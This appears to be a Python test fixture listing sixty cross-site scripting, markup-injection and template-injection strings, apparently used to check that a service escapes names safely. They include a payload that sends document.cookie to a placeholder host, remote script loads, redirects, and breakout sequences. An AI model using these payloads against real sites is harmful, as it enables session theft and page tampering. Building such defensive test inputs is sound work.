"""Sixty texts that would do something if a page took one of them for markup, script, style or a template.

Each is a name that the service takes: at most 200 characters, none of them a control character. What
would call another host calls one below .invalid, which no name server knows.
"""

from __future__ import annotations

TEXTS = (
    # Markup with script.
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<ScRiPt src=//a.invalid/x.js></sCrIpT>",
    "<script>fetch('https://a.invalid/'+document.cookie)</script>",
    "<script type=module>import('https://a.invalid/m.js')</script>",
    "<img src=x onerror=alert(3)>",
    "<img src=https://a.invalid/pixel.png>",
    "<image href=1 onerror=alert(4)>",
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "<svg><use href=https://a.invalid/s.svg#a></use></svg>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
    "<body onload=alert(8)>",
    "<details open ontoggle=alert(9)>",
    "<video src=https://a.invalid/v onerror=alert(10)></video>",
    "<audio autoplay src=https://a.invalid/a></audio>",
    "<input autofocus onfocus=alert(11)>",
    "<select autofocus onfocus=alert(12)>",
    "<marquee onstart=alert(13)>x</marquee>",
    "<iframe src=javascript:alert(14)></iframe>",
    "<iframe srcdoc='<script>alert(15)</script>'></iframe>",
    "<object data=https://a.invalid/o></object>",
    "<embed src=https://a.invalid/e>",
    "<math><mtext><img src=x onerror=alert(16)></mtext></math>",
    "<a href=javascript:alert(17)>open</a>",
    "<form action=https://a.invalid/><button>send</button></form>",
    # Markup that leads elsewhere or changes the look.
    "<base href=https://a.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://a.invalid/'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<link rel=stylesheet href=https://a.invalid/s.css>",
    "<link rel=prefetch href=https://a.invalid/>",
    "<style>@import 'https://a.invalid/s.css';</style>",
    "<style>*{display:none}</style>",
    "<p style=background:url(https://a.invalid/b)>x</p>",
    # Ways out of what a text may stand in.
    "\"><script>alert(18)</script>",
    "'><script>alert(19)</script>",
    "\" onmouseover=alert(20) x=\"",
    "' autofocus onfocus=alert(21) x='",
    "` onload=alert(22)",
    "x onerror=alert(23)",
    "</title><script>alert(24)</script>",
    "</textarea><script>alert(25)</script>",
    "</style><script>alert(26)</script>",
    "</td></tr></table><script>alert(27)</script>",
    "</text></svg><script>alert(28)</script>",
    "--><script>alert(29)</script><!--",
    "<!--><script>alert(30)</script>",
    "]]><script>alert(31)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(32)>\">",
    "\\\"};alert(33);//",
    # Texts that become markup when they are decoded once too often.
    "&lt;script&gt;alert(34)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(35)&#62;",
    "%3Cscript%3Ealert(36)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(37)\\u003c/script\\u003e",
    "＜script＞alert(38)＜/script＞",
    "+ADw-script+AD4-alert(39)+ADw-/script+AD4-",
    # Templates, addresses, marks of other languages.
    "{{7*7}}{% raw %}{{config}}${7*7}<%= 7*7 %>#{7*7}",
    "javascript:alert(40)//data:text/html,<script>alert(41)</script>",
    "[x](javascript:alert(42)) ![x](https://a.invalid/i.png) #eval(\"1\") $x$",
    "%s%n{0}{name}%(name)s<b>100%</b>" + "<i>" * 40,
)  # fmt: skip
